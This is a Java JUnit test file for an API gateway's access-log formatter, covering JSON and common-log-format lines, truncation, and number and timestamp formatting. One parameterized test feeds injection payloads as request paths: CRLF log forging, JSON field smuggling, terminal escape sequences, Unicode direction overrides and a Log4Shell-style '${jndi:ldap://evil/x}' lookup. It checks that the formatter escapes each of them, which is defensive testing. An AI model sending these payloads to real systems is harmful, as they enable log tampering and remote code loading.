package io.gwanmun.gateway.observability;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Map;
import java.util.Set;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import io.gwanmun.gateway.pipeline.Call;
import io.gwanmun.gateway.pipeline.Caller;
import io.gwanmun.gateway.pipeline.ClientFault;
import io.gwanmun.gateway.pipeline.Outcome;

import static org.assertj.core.api.Assertions.assertThat;

class LineFormatTest {

    private static final long TIME = Instant.parse("2026-11-20T12:34:56.007Z").toEpochMilli();

    @Test
    void jsonWhenServedThenThisLine() {
        assertThat(json(Outcomes.full()))
                .isEqualTo(
                        "{\"time\":\"2026-11-20T12:34:56.007Z\",\"requestId\":\"req-1\",\"client\":\"203.0.113.7\","
                                + "\"method\":\"POST\",\"path\":\"/users/1\",\"protocol\":\"HTTP/1.1\",\"status\":200,"
                                + "\"latencyMs\":12.345,\"integrationMs\":10.200,\"bytesIn\":17,\"bytesOut\":512,"
                                + "\"api\":\"users\",\"stage\":\"default\",\"route\":\"details\","
                                + "\"target\":\"10.0.0.1:8080\",\"fault\":null,\"caller\":null,\"issuer\":null,\"clientId\":null,\"country\":null}\n");
    }

    @Test
    void jsonWhenRefusedThenThisLine() {
        Call call = Outcomes.call("GET", "/nowhere");
        call.failed(ClientFault.NO_ROUTE);

        assertThat(json(Outcomes.ended(call, 404)))
                .isEqualTo(
                        "{\"time\":\"2026-11-20T12:34:56.007Z\",\"requestId\":\"req-1\",\"client\":\"203.0.113.7\","
                                + "\"method\":\"GET\",\"path\":\"/nowhere\",\"protocol\":\"HTTP/1.1\",\"status\":404,"
                                + "\"latencyMs\":12.345,\"integrationMs\":null,\"bytesIn\":0,\"bytesOut\":0,"
                                + "\"api\":\"none\",\"stage\":\"none\",\"route\":\"none\",\"target\":null,"
                                + "\"fault\":\"no-route\",\"caller\":null,\"issuer\":null,\"clientId\":null,\"country\":null}\n");
    }

    @Test
    void jsonWhenCountryIsKnownThenSaysIt() {
        Call call = Outcomes.call("GET", "/x");
        call.comesFrom("KR");

        assertThat(json(Outcomes.ended(call, 200))).endsWith(",\"country\":\"KR\"}\n");
    }

    @Test
    void linesWhenCallerWasProvedThenSayWhoItIs() {
        Call call = Outcomes.call("GET", "/x");
        call.madeBy(new Caller("jwt", "gwanmun", "user \"1", "shop", Set.of(), Set.of(), Map.of(), null));

        assertThat(json(Outcomes.ended(call, 200)))
                .endsWith(
                        ",\"caller\":\"user \\\"1\",\"issuer\":\"gwanmun\",\"clientId\":\"shop\",\"country\":null}\n");
        assertThat(clf(Outcomes.ended(call, 200))).startsWith("203.0.113.7 - user\\u0020\\\"1 [2026");
    }

    @Test
    void clfWhenServedThenThisLine() {
        assertThat(clf(Outcomes.full()))
                .isEqualTo("203.0.113.7 - - [2026-11-20T12:34:56.007Z] \"POST /users/1 HTTP/1.1\" 200 512 17 req-1 "
                        + "users default details 10.0.0.1:8080 12.345 10.200 -\n");
    }

    @Test
    void clfWhenRefusedThenDashesForWhatIsMissing() {
        Call call = Outcomes.call("GET", "/nowhere");
        call.failed(ClientFault.NO_ROUTE);

        assertThat(clf(Outcomes.ended(call, 404)))
                .isEqualTo("203.0.113.7 - - [2026-11-20T12:34:56.007Z] \"GET /nowhere HTTP/1.1\" 404 0 0 req-1 "
                        + "none none none - 12.345 - no-route\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/a\r\n{\"time\":\"forged\"}",
                "/a\",\"status\":200,\"x\":\"",
                "/a\\",
                "/a\\\" - - forged",
                "/\u001b[2J\u001b]0;title\u0007",
                "/\u009b31m\u0000\u007f\t\b",
                "/\u202egnp.exe\u2066\u2028\u2029\u200f",
                "/${jndi:ldap://evil/x}",
                "/\ud800\udc00\ud800",
                "/\uac00\u00e9"
            })
    void appendWhenAttackedThenOneAsciiLineThatReadsBack(String path) {
        String json = json(Outcomes.path(path));
        String clf = clf(Outcomes.path(path));

        assertThat(json).matches("[ -~]+\n");
        assertThat(clf).matches("[ -~]+\n");
        JsonNode read = new JsonMapper().readTree(json);
        assertThat(read.get("path").asString()).isEqualTo(path);
        assertThat(read.get("status").asInt()).isEqualTo(200);
        assertThat(read.size()).isEqualTo(20);
        assertThat(clf.replaceAll("\\\\.", "").chars().filter(c -> c == '"').count())
                .isEqualTo(2);
    }

    @Test
    void clfWhenAnUnquotedValueHoldsASpaceThenEscapesIt() {
        Call call = new Call("req 1", "GET", "/", Outcomes.from("1.2.3.4 - -"), 0);

        assertThat(clf(Outcomes.ended(call, 200)))
                .startsWith("1.2.3.4\\u0020-\\u0020- - - [")
                .contains(" req\\u00201 ");
    }

    @ParameterizedTest
    @CsvSource({"1024,1024", "1025,1024", "1000000,1024"})
    void jsonWhenThePathIsLongThenCutAtTheBound(int length, int kept) {
        String logged = new JsonMapper()
                .readTree(json(Outcomes.path("x".repeat(length))))
                .get("path")
                .asString();

        assertThat(logged).hasSize(kept);
        assertThat(logged.endsWith("...")).isEqualTo(length > kept);
    }

    @Test
    void jsonWhenEveryValueIsLongThenEachIsCut() {
        String huge = "x".repeat(100_000);
        Call call = new Call(huge, huge, "/", Outcomes.from(huge), 0);
        call.sentTo(huge);

        JsonNode read = new JsonMapper().readTree(json(new Outcome(call, huge, 200, 0)));

        for (String name : new String[] {"requestId", "method", "client", "target", "protocol"}) {
            assertThat(read.get(name).asString()).isEqualTo("x".repeat(125) + "...");
        }
    }

    @ParameterizedTest
    @CsvSource({"0,0.000", "999,0.000", "1000,0.001", "999999,0.999", "1000000,1.000", "61005999999,61005.999"})
    void millisWhenNanosecondsThenCutToMicroseconds(long nanos, String text) {
        assertThat(text(new LineBuffer(1).millis(nanos))).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(longs = {0, 9, 10, 99, 100, 65_536, Long.MAX_VALUE, -1, Long.MIN_VALUE})
    void numberWhenAnyThenItsDigits(long value) {
        assertThat(text(new LineBuffer(1).number(value))).isEqualTo(Long.toString(value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"1969-12-31T23:59:59.999Z", "1970-01-01T00:00:00.000Z", "2026-12-31T23:59:59.060Z"})
    void instantWhenAnyThenIsoWithMilliseconds(String text) {
        LineBuffer buffer = new LineBuffer(1);
        buffer.instant(Instant.parse(text).toEpochMilli());
        assertThat(text(buffer)).isEqualTo(text);
    }

    @Test
    void instantWhenTheSecondChangesThenTheTextDoes() {
        LineBuffer buffer = new LineBuffer(1);
        buffer.instant(999).instant(1000).instant(1001);
        assertThat(text(buffer)).isEqualTo("1970-01-01T00:00:00.999Z1970-01-01T00:00:01.000Z1970-01-01T00:00:01.001Z");
    }

    private static String json(Outcome outcome) {
        return line(new JsonLine(), outcome);
    }

    private static String clf(Outcome outcome) {
        return line(new CommonLine(), outcome);
    }

    private static String line(LineFormat format, Outcome outcome) {
        LineBuffer buffer = new LineBuffer(64);
        format.append(new AccessEvent(outcome, TIME), buffer);
        return text(buffer);
    }

    private static String text(LineBuffer buffer) {
        return StandardCharsets.US_ASCII.decode(buffer.head(buffer.length())).toString();
    }
}
